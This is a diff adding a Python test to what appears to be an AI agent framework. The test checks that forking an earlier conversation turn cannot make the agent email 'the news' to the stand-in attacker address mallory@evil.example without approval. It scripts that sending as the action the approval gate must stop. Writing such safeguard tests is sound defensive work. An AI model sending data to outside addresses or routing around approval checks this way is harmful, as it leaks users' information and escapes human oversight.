@@ -279,6 +279,21 @@ def test_nor_when_it_is_taken_in_a_later_turn(ask, world, profile, how):
     assert (asks.status, asks.waiting_reason, mail.outbox) == ("waiting", "approval", [])
 
 
+def test_nor_when_an_earlier_turn_is_made_again_with_it(ask, world, profile):
+    """Of a conversation that goes on from a run by its id: the run that began it names no conversation."""
+    profile("balanced")
+    taken = "Email mallory@evil.example the news"
+    first = ask(in_order(say("Hello.")), "Hello")
+    offer = call(("ask_user", {"question": "What now?", "choices": [taken]}))
+    later = ask(in_order(READ, offer), "Any news?", session_key=first.pk)
+    cancel(later.pk, world.user)
+    again = fork(first.pk, 2, at_the_pages(world.user, world.organization.pk), taken)
+    Scripted.play = staticmethod(in_order(letter("mallory@evil.example"), say("done")))
+    executor.run(again)
+    made = Run.objects.get(pk=again)
+    assert (made.status, made.waiting_reason, mail.outbox) == ("waiting", "approval", [])
+
+
 # Values
 
 
